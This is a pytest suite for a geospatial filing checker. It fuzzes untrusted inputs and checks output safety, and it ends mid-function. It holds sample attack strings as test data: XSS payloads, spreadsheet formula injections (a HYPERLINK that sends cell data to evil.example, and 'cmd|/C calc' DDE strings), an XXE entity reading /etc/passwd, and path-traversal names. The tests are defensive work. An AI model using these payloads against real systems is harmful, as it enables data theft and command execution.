"""Hostile and broken input (issue #11): nothing crashes, nothing is lost, nothing runs.

Filings come from the enterprises being audited, so every input is untrusted.
The invariant checked over generated filings, in every format the reader takes:
either one :class:`~pilotzone.errors.InputError` whose problems each say where
(file, row, column, value), or a result in which every input row appears exactly
once with a status; never another exception, and never a traceback from the CLI.

Then: output safety (HTML and spreadsheet injection, path traversal, atomic
writes), hostile boundary files, and resource limits. SECURITY.md maps each
threat to the tests here.

The property tests run 60 examples each (the CLI's, 30); ``HOSTILE_EXAMPLES=400``
in the environment runs a deeper search.
"""

from __future__ import annotations

import contextlib
import functools
import html
import html.parser
import io
import json
import math
import os
import re
import subprocess
import sys
import zipfile
from collections import Counter
from pathlib import Path
from typing import Any

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_maps import points

from pilotzone.cli import main
from pilotzone.errors import InputError
from pilotzone.facilities import read_facilities
from pilotzone.verify import STATUSES, verify
from pilotzone.zones import load_zones

AS_OF = "2025-01-01"
SETTINGS = settings(
    max_examples=int(os.environ.get("HOSTILE_EXAMPLES", "60")),
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


@functools.cache
def zones() -> gpd.GeoDataFrame:
    return load_zones(as_of=AS_OF)


# --------------------------------------------------------------------------- generated filings

# Any text a filing could hold: every plane of Unicode (no lone surrogates: no file can
# hold them), control characters, bidi overrides, full-width forms, formula starts.
TEXT = st.one_of(
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs", "Cc")), max_size=10),
    st.text(st.characters(codec="utf-8", exclude_categories=("Cs",)), max_size=4),
)
NUMBER = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True),
    st.floats(min_value=-1e-300, max_value=1e-300),
    st.integers(min_value=-(2**70), max_value=2**70),
)
SPECIAL = st.sampled_from(
    [
        "", " ", "\u3000", "nan", "-inf", "Infinity", "1e999", "-0", "1,5", "１２１．５",
        "121.5", "31.2", "4e-324", "=1+1", "\u202eA", "\ufeffA", "NULL", "None",
        "wgs84", "gcj02", "bd09", "cgcs2000", "EPSG:4547", "EPSG:32650", "EPSG:3857",
        "EPSG:0", "EPSG:99999999", "+proj=bogus", "高德", "百度",
        "registration", "idc", "cdn", "isp", "server", "注册地", "数据中心", "rented",
        "news", "idc;cdn", "A", "B", "甲公司",
    ]
)  # fmt: skip
CELL = st.one_of(st.none(), st.booleans(), TEXT, NUMBER, SPECIAL)
# Plausible values, so that many filings get past the reader and into verify.
PLAUSIBLE = {
    "operator_id": st.sampled_from(["A", "B", "甲公司", ""]),
    "facility_id": st.sampled_from(["1", "2", "1", "X"]),  # duplicates on purpose
    "kind": st.sampled_from(["registration", "idc", "cdn", "isp", "注册地", "数据中心"]),
    "lon": st.one_of(st.floats(70, 140), st.sampled_from(["121.5044", "114.0579", "1e3"])),
    "lat": st.one_of(st.floats(15, 55), st.sampled_from(["31.2397", "22.5431", "-91"])),
    # Mixed coordinate systems row by row, projected and unknown ones included. Not any
    # text: pyproj looks a name up in its database, ~0.5 s for each distinct one (SECURITY.md).
    "crs": st.sampled_from(
        [
            "wgs84",
            "gcj02",
            "bd09",
            "cgcs2000",
            "EPSG:4547",
            "EPSG:3857",
            "",
            "EPSG:0",
            "EPSG:99999999",
            "+proj=bogus",
            "A",
            "高德",
            "百度",
            None,
            math.nan,
        ]
    ),
}
PLAUSIBLE["坐标系"] = PLAUSIBLE["crs"]
EXTRA = ["tenure", "services", "name", "address", "note", "备注"]
HEADERS = [
    *EXTRA, "operator_id", "facility_id", "kind", "lon", "lat", "crs", "运营商", "经度", "纬度",
    "坐标系", "\ufeffoperator_id", "", "problems", "x", "Lon",
]  # fmt: skip
CORE = ["operator_id", "facility_id", "kind", "lon", "lat", "crs"]


@st.composite
def tables(draw: st.DrawFn, *, max_rows: int = 6) -> tuple[list[str], list[list[Any]]]:
    """A header (names may repeat, be blank, reserved or missing) and rows of any cells."""
    if draw(st.integers(0, 3)):  # mostly a header the reader understands
        header = CORE + draw(st.lists(st.sampled_from(EXTRA), unique=True, max_size=2))
    else:
        header = draw(st.lists(st.sampled_from(HEADERS), min_size=1, max_size=8))
    n = draw(st.integers(min_value=0, max_value=max_rows))
    rows = []
    for _ in range(n):
        rows.append(
            [
                draw(PLAUSIBLE[h])
                if h in ("crs", "坐标系")
                else draw(st.one_of(PLAUSIBLE[h], PLAUSIBLE[h], PLAUSIBLE[h], CELL))
                if h in PLAUSIBLE
                else draw(CELL)
                for h in header
            ]
        )
    return header, rows


def blank(cell: Any) -> bool:
    """What a spreadsheet user sees as an empty cell."""
    if cell is None:
        return True
    if isinstance(cell, float) and math.isnan(cell):
        return True
    return isinstance(cell, str) and not cell.strip()


def kept_rows(rows: list[list[Any]]) -> int:
    """Rows a CSV or workbook holds: all of them but the blank ones at the very end."""
    n = len(rows)
    while n and all(blank(cell) for cell in rows[n - 1]):
        n -= 1
    return n


def as_text(cell: Any) -> str:
    return "" if cell is None else str(cell)


def csv_bytes(
    header: list[str], rows: list[list[Any]], encoding: str
) -> tuple[bytes, list[list[Any]]]:
    """The CSV bytes, and the rows as they read back (characters the encoding lacks become ?)."""
    import csv

    def fit(cell: Any) -> str:
        return as_text(cell).encode(encoding, "replace").decode(encoding)

    stream = io.StringIO(newline="")
    writer = csv.writer(stream)
    writer.writerow([fit(h) for h in header])
    shown = [[fit(cell) for cell in row] for row in rows]
    writer.writerows(shown)
    return stream.getvalue().encode(encoding, "replace"), shown


def xlsx_bytes(header: list[str], rows: list[list[Any]]) -> tuple[bytes, list[list[Any]]]:
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    def fit(cell: Any) -> Any:
        if isinstance(cell, str):
            return ILLEGAL_CHARACTERS_RE.sub("", cell)
        if isinstance(cell, int) and not isinstance(cell, bool) and abs(cell) >= 2**53:
            return str(cell)  # Excel has no integers beyond a double's precision
        return cell

    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append([fit(h) for h in header])
    shown = [[fit(cell) for cell in row] for row in rows]
    for row in shown:
        sheet.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue(), shown


def geojson_bytes(header: list[str], rows: list[list[Any]], points: list[Any]) -> bytes:
    features = []
    for row, point in zip(rows, points, strict=True):
        properties = {h: cell for h, cell in zip(header, row, strict=True) if h}
        properties = {k: (str(v) if isinstance(v, int) and abs(v) >= 2**63 else v)
                      for k, v in properties.items()}  # fmt: skip
        features.append({"type": "Feature", "properties": properties, "geometry": point})
    return json.dumps({"type": "FeatureCollection", "features": features}).encode("utf-8")


POINT = st.one_of(
    st.none(),
    st.builds(lambda x, y: {"type": "Point", "coordinates": [x, y]}, NUMBER, NUMBER),
    st.builds(
        lambda x, y: {"type": "Point", "coordinates": [x, y]}, st.floats(70, 140), st.floats(15, 55)
    ),
    st.just({"type": "LineString", "coordinates": [[121, 31], [122, 32]]}),
    st.just({"type": "GeometryCollection", "geometries": []}),
    st.just({"type": "Point", "coordinates": []}),
)


# --------------------------------------------------------------------------- the invariant


def check(source: Any, *, crs: str | None, rows: int | None, at_most: int | None = None) -> None:
    """Read and verify ``source``; assert the invariant of issue #11.

    ``rows`` is the number of rows the result must have where it is known;
    ``at_most`` bounds it where the file was cut.
    """
    name = "<DataFrame>" if isinstance(source, pd.DataFrame) else Path(source).name
    try:
        sites = read_facilities(source, crs=crs)
    except InputError as error:
        assert error.problems
        for problem in error.problems:
            assert problem.file == name
            assert problem.reason
            assert problem.row is None or problem.row >= 1
        assert name in str(error)
        return
    n = len(sites)
    if rows is not None:
        assert n == rows
    if at_most is not None:
        assert n <= at_most
    numbers = sites["source_row"].tolist()
    if name.endswith((".csv", ".xlsx")):  # lines, sheet rows: below the header, in order
        above = [sites.attrs["header_row"], *numbers[:-1]]
        assert all(a < b for a, b in zip(above, numbers, strict=True))
    else:  # features, DataFrame rows: numbered from 1
        assert numbers == list(range(1, n + 1))
    result = verify(sites, zones=zones())
    assert len(result) == n
    assert result.index.equals(sites.index)
    assert set(result["status"].astype(str)) <= set(STATUSES)
    marked = (sites["problems"] != "").to_numpy()
    assert (result["status"].astype(str).to_numpy()[marked] == "invalid").all()


@SETTINGS
@given(
    table=tables(), crs=st.sampled_from([None, "wgs84", "gcj02", "EPSG:4547"]), index=st.booleans()
)
def test_dataframes(table: tuple[list[str], list[list[Any]]], crs: str | None, index: bool) -> None:
    header, rows = table
    frame = pd.DataFrame(rows, columns=header, dtype=object)
    if index:  # repeated and unordered labels: rows are matched by position, not by label
        frame.index = pd.Index([7, 3, 3, 0, 7, 1][: len(frame)])
    check(frame, crs=crs, rows=len(frame))


@SETTINGS
@given(
    table=tables(),
    crs=st.sampled_from([None, "wgs84", "bd09"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "gbk", "gb18030"]),
)
def test_csv_files(
    tmp_path: Path, table: tuple[list[str], list[list[Any]]], crs: str | None, encoding: str
) -> None:
    header, rows = table
    data, shown = csv_bytes(header, rows, encoding)
    path = tmp_path / "filing.csv"
    path.write_bytes(data)
    check(path, crs=crs, rows=kept_rows(shown))


@SETTINGS
@given(table=tables(max_rows=4), crs=st.sampled_from([None, "wgs84"]))
def test_excel_files(
    tmp_path: Path, table: tuple[list[str], list[list[Any]]], crs: str | None
) -> None:
    header, rows = table
    data, shown = xlsx_bytes(header, rows)
    path = tmp_path / "filing.xlsx"
    path.write_bytes(data)
    check(path, crs=crs, rows=kept_rows(shown))


@SETTINGS
@given(data=st.data(), crs=st.sampled_from([None, "gcj02"]))
def test_geojson_files(tmp_path: Path, data: st.DataObject, crs: str | None) -> None:
    header, rows = data.draw(tables(max_rows=4))
    points = data.draw(st.lists(POINT, min_size=len(rows), max_size=len(rows)))
    path = tmp_path / "filing.geojson"
    path.write_bytes(geojson_bytes(header, rows, points))
    check(path, crs=crs, rows=len(rows) or None)


SUFFIXES = [".csv", ".xlsx", ".geojson", ".json", ".kml", ".kmz", ".parquet", ".gpkg", ".shp"]


@SETTINGS
@given(garbage=st.binary(max_size=300), suffix=st.sampled_from(SUFFIXES))
def test_binary_garbage(tmp_path: Path, garbage: bytes, suffix: str) -> None:
    path = tmp_path / f"garbage{suffix}"
    path.write_bytes(garbage)
    check(path, crs="wgs84", rows=None, at_most=len(garbage))


VALID_CSV = (
    "operator_id,facility_id,kind,lon,lat,crs,name\n"
    "A,1,registration,121.5044,31.2397,wgs84,总部\n"
    'A,2,idc,121.5500,31.2200,gcj02,"机房, 二号"\n'
    "A,3,cdn,114.0579,22.5431,bd09,x\n"
)


def valid_files(tmp_path: Path) -> dict[str, bytes]:
    header = ["operator_id", "facility_id", "kind", "lon", "lat", "crs", "name"]
    rows = [
        ["A", "1", "registration", 121.5044, 31.2397, "wgs84", "总部"],
        ["A", "2", "idc", 121.55, 31.22, "gcj02", "机房, 二号"],
        ["A", "3", "cdn", 114.0579, 22.5431, "bd09", "x"],
    ]
    points = [{"type": "Point", "coordinates": [r[3], r[4]]} for r in rows]
    kml = (
        '<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2">'
        "<Document>"
        + "".join(
            f"<Placemark><name>{r[1]}</name><ExtendedData><Data name='operator_id'><value>A"
            f"</value></Data><Data name='kind'><value>{r[2]}</value></Data></ExtendedData>"
            f"<Point><coordinates>{r[3]},{r[4]}</coordinates></Point></Placemark>"
            for r in rows
        )
        + "</Document></kml>"
    ).encode("utf-8")
    kmz = io.BytesIO()
    with zipfile.ZipFile(kmz, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("doc.kml", kml)
    parquet = io.BytesIO()
    pd.DataFrame(rows, columns=header).to_parquet(parquet)
    return {
        ".csv": VALID_CSV.encode("utf-8-sig"),
        ".xlsx": xlsx_bytes(header, rows)[0],
        ".geojson": geojson_bytes(header, rows, points),
        ".kml": kml,
        ".kmz": kmz.getvalue(),
        ".parquet": parquet.getvalue(),
    }


@pytest.fixture(scope="module")
def valid(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    return valid_files(tmp_path_factory.mktemp("valid"))


@SETTINGS
@given(
    suffix=st.sampled_from([".csv", ".xlsx", ".geojson", ".kml", ".kmz", ".parquet"]),
    cut=st.floats(0, 1),
)
def test_truncated_files(tmp_path: Path, valid: dict[str, bytes], suffix: str, cut: float) -> None:
    whole = valid[suffix]
    path = tmp_path / f"cut{suffix}"
    path.write_bytes(whole[: int(len(whole) * cut)])
    check(path, crs="wgs84", rows=None, at_most=3)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".geojson", ".kml", ".kmz", ".parquet"])
def test_valid_files_read_every_row(tmp_path: Path, valid: dict[str, bytes], suffix: str) -> None:
    path = tmp_path / f"whole{suffix}"
    path.write_bytes(valid[suffix])
    check(path, crs="wgs84", rows=3)  # the files the truncation test cuts are themselves good


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"", "empty"),
        (b"\xef\xbb\xbf \r\n\t", "empty"),
        (b"operator_id,kind,lon,lat,crs\n", "no data rows"),
        (b"\xef\xbb\xbfoperator_id,kind,lon,lat,crs\r\n\r\n", "no data rows"),
        (b"kind,lon,lat\nidc,1,2\n", "missing required column"),
        (b"operator_id,kind,lon,lat\nA,idc,121,31\n", "no coordinate system"),
        (b"\x00\x01\x02binary", "binary"),
        ("运营商,类型\n".encode("utf-16"), "binary"),
        (b'operator_id,kind\n"A,idc\n', "malformed or truncated"),
    ],
)
def test_whole_file_problems_name_the_file(tmp_path: Path, content: bytes, reason: str) -> None:
    path = tmp_path / "bad filing.csv"
    path.write_bytes(content)
    with pytest.raises(InputError, match=reason) as caught:
        read_facilities(path)
    assert {p.file for p in caught.value.problems} == {"bad filing.csv"}


def test_row_problems_name_file_row_column_and_value(tmp_path: Path) -> None:
    path = tmp_path / "rows.csv"
    path.write_text(
        "operator_id,facility_id,kind,lon,lat,crs\n"
        "A,1,registration,121.5,31.2,wgs84\n"
        "A,1,idc,inf,31.2,wgs84\n"
        "A,2,warehouse,121.5,NaN,EPSG:99999999\n",
        encoding="utf-8",
    )
    with pytest.raises(InputError) as caught:
        read_facilities(path, errors="raise")
    found = {(p.file, p.row, p.column, p.value) for p in caught.value.problems}
    assert ("rows.csv", 3, "lon", "inf") in found  # the lines of the file
    assert ("rows.csv", 3, "facility_id", "1") in found  # duplicate id
    assert ("rows.csv", 4, "kind", "warehouse") in found
    assert ("rows.csv", 4, "lat", "NaN") in found
    assert ("rows.csv", 4, "crs", "EPSG:99999999") in found


# --------------------------------------------------------------------------- the command line


def run_cli(*argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(list(argv))
    return code, out.getvalue(), err.getvalue()


@settings(SETTINGS, max_examples=SETTINGS.max_examples // 2)
@given(
    content=st.one_of(
        st.binary(max_size=200),
        tables().map(lambda t: csv_bytes(*t, "utf-8")[0]),
    ),
    crs=st.sampled_from([[], ["--crs", "wgs84"]]),
)
def test_cli_never_shows_a_traceback(tmp_path: Path, content: bytes, crs: list[str]) -> None:
    path = tmp_path / "hostile filing.csv"
    path.write_bytes(content)
    code, _, err = run_cli("verify", str(path), "--as-of", AS_OF, *crs)
    assert "Traceback" not in err
    assert code in (0, 1, 2), err
    if code == 2:
        assert "hostile filing.csv" in err
        assert err.startswith("pilotzone: error:")


def test_cli_subprocess_on_a_binary_file(tmp_path: Path) -> None:
    path = tmp_path / "garbage.xlsx"
    path.write_bytes(b"PK\x03\x04" + os.urandom(64))
    done = subprocess.run(
        [sys.executable, "-m", "pilotzone", "verify", str(path), "--crs", "wgs84"],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src")},
        timeout=120,
        check=False,
    )
    assert done.returncode == 2
    assert "Traceback" not in done.stderr
    assert "garbage.xlsx" in done.stderr


# --------------------------------------------------------------------------- output safety

PAYLOADS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(2)>',
    "'><svg onload=alert(3)>",
    "</script><script>alert(4)</script>",
    "</SCRIPT ><!--",
    '=HYPERLINK("http://evil.example/?d="&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\u202egpj.exe",
    "A\u2066B\u2069C\u200f\u061c",
    "${alert(5)}`x`\\u003c",
]
LUJIAZUI, BEIJING, SHENZHEN = (121.5044, 31.2397), (116.3975, 39.9087), (114.0579, 22.5431)


def filing_of(texts: list[str]) -> pd.DataFrame:
    """Operator OP registered in Shanghai with one CDN in Beijing per text (a violation each),
    and an operator per text, whose id is that text, registered in Beijing with a Shenzhen CDN."""
    rows = [("OP", "REG", "HQ", "registration", *LUJIAZUI)]
    for i, text in enumerate(texts):
        rows.append(("OP", f"F{i}", text, "cdn", *BEIJING))
        # The reader strips the ids, and "\t=1+1" and "\r=1+1" must stay two operators.
        rows.append((f"{text}#{i}", f"{text}/../../R{i}", f"R{i}", "registration", *BEIJING))
        rows.append((f"{text}#{i}", f"C{i}", f"C{i}", "cdn", *SHENZHEN))
    frame = pd.DataFrame(rows, columns=["operator_id", "facility_id", "name", "kind", "lon", "lat"])
    frame["address"] = frame["name"]
    frame["note"] = frame["name"]
    return frame


MAP_DATA = re.compile(
    r'<script type="application/json" id="pilotzone_data_[0-9a-f]{32}">(.*?)</script>', re.S
)


class Tags(html.parser.HTMLParser):
    """Start tags and attributes of a page, and the pages inside its iframes' srcdoc."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.srcdocs: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(tag, name) for name, _ in attrs]
        self.srcdocs += [value or "" for name, value in attrs if name == "srcdoc"]


def parsed(page: str) -> Tags:
    parser = Tags()
    parser.feed(page)
    parser.close()
    return parser


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Path]]:
    """write_report over the hostile texts, and over plain texts in the same places."""
    from pilotzone.report import write_report

    written = {}
    for kind, texts in (
        ("hostile", PAYLOADS),
        ("plain", [f"plain{i}" for i in range(len(PAYLOADS))]),
    ):
        result = verify(read_facilities(filing_of(texts), crs="wgs84"), zones=zones())
        assert (result["status"].astype(str) == "violation").sum() == 2 * len(texts)
        written[kind] = write_report(result, tmp_path_factory.mktemp(kind) / "out", zones=zones())
    return written


@pytest.mark.parametrize("page", ["map.html", "report.html"])
def test_html_holds_no_markup_from_the_input(
    reports: dict[str, dict[str, Path]], page: str
) -> None:
    hostile = reports["hostile"][page].read_text(encoding="utf-8")
    plain = reports["plain"][page].read_text(encoding="utf-8")
    # Outside the map's JSON data nothing of the input is raw; inside it, nothing can end
    # the script element that holds it (<, > and & are \u escapes).
    for text in PAYLOADS:
        assert text not in MAP_DATA.sub("", hostile) or not set(text) & set("<>\"'&")
    assert not [data for data in MAP_DATA.findall(hostile) if set(data) & set("<>&")]
    # The same elements and attributes as for plain text (operators sort differently, so
    # counted, not in order): nothing opened, closed or added by the input, in the page or
    # in the map it embeds (iframe srcdoc).
    found, expected = parsed(hostile), parsed(plain)
    assert Counter(found.tags) == Counter(expected.tags)
    assert Counter(found.attributes) == Counter(expected.attributes)
    for inner, inner_plain in zip(found.srcdocs, expected.srcdocs, strict=True):
        assert Counter(parsed(inner).tags) == Counter(parsed(inner_plain).tags)
        assert Counter(parsed(inner).attributes) == Counter(parsed(inner_plain).attributes)
    assert hostile.lower().count("</script") == plain.lower().count("</script")
    assert "onerror" not in {name for _, name in found.attributes}


def test_map_data_keeps_every_text_whole(reports: dict[str, dict[str, Path]]) -> None:
    """The facility data is JSON in a script element: every text is in it, whole."""
    page = reports["hostile"]["map.html"].read_text(encoding="utf-8")
    (data,) = [json.loads(text) for text in MAP_DATA.findall(page)]
    drawn = points(data)  # the facilities' table, decoded
    violations = set(drawn.loc[drawn["overlay"].str.startswith("Violation ("), "name"])
    for text in PAYLOADS:
        assert text.strip() in violations  # the reader strips cells


def formula_like(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_spreadsheet_cells_are_neutralised(reports: dict[str, dict[str, Path]]) -> None:
    import csv

    with open(reports["hostile"]["findings.csv"], encoding="utf-8-sig", newline="") as file:
        rows = list(csv.reader(file))
    cells = [cell for row in rows for cell in row]
    for text in PAYLOADS[5:11]:
        assert "'" + text.strip() in cells  # kept behind a quote (the reader strips cells)
    assert not [c for c in cells if formula_like(c) and c != "-" and not _number(c)]
    book = openpyxl.load_workbook(reports["hostile"]["findings.xlsx"])
    values = [cell for row in book.active.iter_rows() for cell in row]
    assert not [c.coordinate for c in values if c.data_type == "f"]
    assert not [c.value for c in values if formula_like(c.value)]
    assert "'" + PAYLOADS[5] in {c.value for c in values}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0#8" in {c.value for c in values}  # an operator id


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_nothing_is_written_outside_the_folder_asked_for(
    reports: dict[str, dict[str, Path]],
) -> None:
    from pilotzone.report import FILES

    folder = reports["hostile"]["map.html"].parent
    assert sorted(p.name for p in folder.iterdir()) == sorted(FILES)
    assert sorted(p.name for p in folder.parent.iterdir()) == ["out"]
    assert {path.parent for path in reports["hostile"].values()} == {folder}


def test_a_failed_write_leaves_the_previous_report_whole(
    reports: dict[str, dict[str, Path]], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pilotzone import report
    from pilotzone.audit import check_folder

    folder = tmp_path / "out"
    folder.mkdir()
    for name, path in reports["plain"].items():
        (folder / name).write_bytes(path.read_bytes())
    before = {p.name: p.read_bytes() for p in folder.iterdir()}

    def half_then_full_disk(table: Any, as_of: Any, sheet: Any, file: Any) -> None:
        file.write(b"PK half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(report, "write_xlsx", half_then_full_disk)
    result = verify(read_facilities(filing_of(PAYLOADS), crs="wgs84"), zones=zones())
    with pytest.raises(OSError, match="No space left"):
        report.write_report(result, folder, zones=zones())
    after = {p.name: p.read_bytes() for p in folder.iterdir()}
    # No temporary file left behind; the manifest is gone, so the folder reads as unfinished.
    assert sorted(after) == sorted(set(before) - {"manifest.json"})
    with pytest.raises(InputError, match=r"manifest\.json: missing"):
        check_folder(folder)
    assert after["findings.xlsx"] == before["findings.xlsx"]
    assert after["map.html"] == before["map.html"]  # not reached: the old one stays


# --------------------------------------------------------------------------- boundary files


def boundary_file(path: Path, geometry: dict[str, Any] | None, **properties: Any) -> Path:
    feature = {"type": "Feature", "properties": {"zone_id": "shanghai", **properties},
               "geometry": geometry}  # fmt: skip
    path.write_text(json.dumps({"type": "FeatureCollection", "features": [feature]}))
    return path


SQUARE = [[121.4, 31.1], [121.6, 31.1], [121.6, 31.3], [121.4, 31.3], [121.4, 31.1]]
BOW_TIE = [[121.4, 31.1], [121.6, 31.3], [121.6, 31.1], [121.4, 31.3], [121.4, 31.1]]


def test_a_bow_tie_is_repaired_with_a_warning_that_says_where(tmp_path: Path) -> None:
    path = boundary_file(
        tmp_path / "bow tie.geojson", {"type": "Polygon", "coordinates": [BOW_TIE]}
    )
    with pytest.warns(UserWarning, match=r"bow tie\.geojson, feature 1, zone_id 'shanghai'"):
        loaded = load_zones(boundaries=path, accuracy_m=10)
    shanghai = loaded.set_index("zone_id").geometry["shanghai"]
    assert shanghai.is_valid
    assert shanghai.area == pytest.approx(0.02, rel=1e-9)  # two triangles of 0.01 square degrees


@pytest.mark.parametrize(
    ("geometry", "reason"),
    [
        ({"type": "Point", "coordinates": [121.5, 31.2]}, "a Point, not a Polygon"),
        ({"type": "LineString", "coordinates": SQUARE}, "a LineString, not a Polygon"),
        (
            {
                "type": "GeometryCollection",
                "geometries": [{"type": "Polygon", "coordinates": [SQUARE]}],
            },
            "a GeometryCollection, not a Polygon",
        ),
        ({"type": "Polygon", "coordinates": []}, "empty or missing geometry"),
        (None, "empty or missing geometry"),
        ({"type": "Polygon",
          "coordinates": [[[121.4, 31.1], [math.nan, 31.1], [121.6, 31.3], [121.4, 31.1]]]},
         "NaN or infinite coordinates"),
        ({"type": "Polygon",
          "coordinates": [[[121.4, 31.1], [math.inf, 31.1], [121.6, 31.3], [121.4, 31.1]]]},
         "NaN or infinite coordinates"),
        ({"type": "Polygon",
          "coordinates": [[[121.4, 31.1], [121.4, 31.1], [121.4, 31.1], [121.4, 31.1]]]},
         "no area left once repaired"),
        ({"type": "Polygon",
          "coordinates": [[[1e7, 31.1], [1e7 + 1, 31.1], [1e7, 32], [1e7, 31.1]]]},
         "outside longitude/latitude range"),
    ],
)  # fmt: skip
def test_unusable_boundary_features_are_named(
    tmp_path: Path, geometry: dict[str, Any] | None, reason: str
) -> None:
    from pilotzone.errors import BoundaryDataError

    path = boundary_file(tmp_path / "zones.geojson", geometry)
    with pytest.raises(BoundaryDataError, match=re.escape(reason)) as caught:
        load_zones(boundaries=path, accuracy_m=10)
    assert "zones.geojson" in str(caught.value)
    assert "feature 1, zone_id 'shanghai'" in str(caught.value)


VRT = (
    "<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>{source}</SrcDataSource>"
    "<GeometryType>wkbPoint</GeometryType><LayerSRS>WGS84</LayerSRS>"
    "<GeometryField encoding='PointFromColumns' x='lon' y='lat'/></OGRVRTLayer></OGRVRTDataSource>"
)


@pytest.mark.parametrize("suffix", [".geojson", ".json", ".gpkg", ".shp"])
def test_gdal_never_opens_a_file_that_is_not_what_its_suffix_says(
    tmp_path: Path, suffix: str
) -> None:
    """An OGR VRT named like a filing or boundary file would make GDAL read another file
    (or fetch a URL): its contents would end up in the report."""
    from pilotzone.errors import BoundaryDataError

    secret = tmp_path / "secret.csv"
    secret.write_text("operator_id,kind,lon,lat,zone_id\nSECRET,idc,121.5,31.2,shanghai\n")
    path = tmp_path / f"disguised{suffix}"
    path.write_text(VRT.format(source=secret))
    with pytest.raises(InputError, match=f"its contents are not .*as its suffix {suffix} says"):
        read_facilities(path, crs="wgs84")
    with pytest.raises(BoundaryDataError, match="its contents are not"):
        load_zones(boundaries=path, accuracy_m=10)


@pytest.mark.parametrize("suffix", [".kml", ".vrt", ".gml", ".csv", ""])
def test_boundary_files_of_other_types_are_refused(tmp_path: Path, suffix: str) -> None:
    from pilotzone.errors import BoundaryDataError

    path = tmp_path / f"zones{suffix}"
    path.write_text('<?xml version="1.0"?><!DOCTYPE k [<!ENTITY x SYSTEM "file:///etc/passwd">]>')
    with pytest.raises(BoundaryDataError, match="unknown file type"):
        load_zones(boundaries=path, accuracy_m=10)


def manifest_copy(tmp_path: Path) -> tuple[Path, dict[str, Any]]:
    import shutil

    shipped = Path(load_zones().attrs["boundaries_path"])
    folder = tmp_path / "boundaries"
    shutil.copytree(shipped, folder)
    return folder, json.loads((folder / "manifest.json").read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    "name", ["../../etc/passwd", "/etc/passwd", "sub/beijing.geojson", ".hidden"]
)
def test_a_manifest_cannot_point_outside_its_folder(tmp_path: Path, name: str) -> None:
    from pilotzone.errors import BoundaryDataError

    folder, manifest = manifest_copy(tmp_path)
    manifest["zones"][0]["file"] = name
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(BoundaryDataError, match="must be a file name inside the manifest's folder"):
        load_zones(boundaries=folder)


def test_a_tampered_zone_file_is_refused_before_it_is_parsed(tmp_path: Path) -> None:
    from pilotzone.errors import BoundaryDataError

    folder, manifest = manifest_copy(tmp_path)
    path = folder / manifest["zones"][0]["file"]
    path.write_bytes(path.read_bytes().replace(b"116.", b"117.", 1))
    with pytest.raises(BoundaryDataError, match=r"its sha256 is .* but manifest\.json says"):
        load_zones(boundaries=folder)


def test_nan_in_a_hash_matching_zone_file_is_an_error_not_a_crash(tmp_path: Path) -> None:
    import hashlib

    from pilotzone.errors import BoundaryDataError

    folder, manifest = manifest_copy(tmp_path)
    entry = manifest["zones"][0]
    path = folder / entry["file"]
    collection = json.loads(path.read_text(encoding="utf-8"))
    zone = next(f for f in collection["features"] if f["properties"].get("role") == "zone")
    ring = (
        zone["geometry"]["coordinates"][0][0]
        if zone["geometry"]["type"] == "MultiPolygon"
        else zone["geometry"]["coordinates"][0]
    )
    ring[1] = [math.nan, ring[1][1]]
    path.write_text(json.dumps(collection), encoding="utf-8")  # NaN: a token Python's json reads
    entry["sha256"] = hashlib.sha256(path.read_bytes()).hexdigest()
    (folder / "manifest.json").write_text(json.dumps(manifest), encoding="utf-8")
    with pytest.raises(BoundaryDataError, match=r"\(role 'zone'\): NaN or infinite coordinates"):
        load_zones(boundaries=folder)


def test_too_many_vertices_in_a_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from pilotzone import zones as zones_module
    from pilotzone.errors import BoundaryDataError

    monkeypatch.setattr(zones_module, "MAX_VERTICES", 4)
    path = boundary_file(tmp_path / "dense.geojson", {"type": "Polygon", "coordinates": [SQUARE]})
    with pytest.raises(BoundaryDataError, match=r"dense\.geojson is too large: 5 vertices"):
        load_zones(boundaries=path, accuracy_m=10)


# --------------------------------------------------------------------------- resource limits

HUGE = 2**40  # 1 TiB, as a sparse file: no disk used, and far more than any memory here


def sparse(path: Path, size: int = HUGE, head: bytes = b"") -> Path:
    with open(path, "wb") as file:
        file.write(head)
        file.truncate(size)
    return path


def test_a_file_larger_than_memory_is_refused_before_it_is_read(tmp_path: Path) -> None:
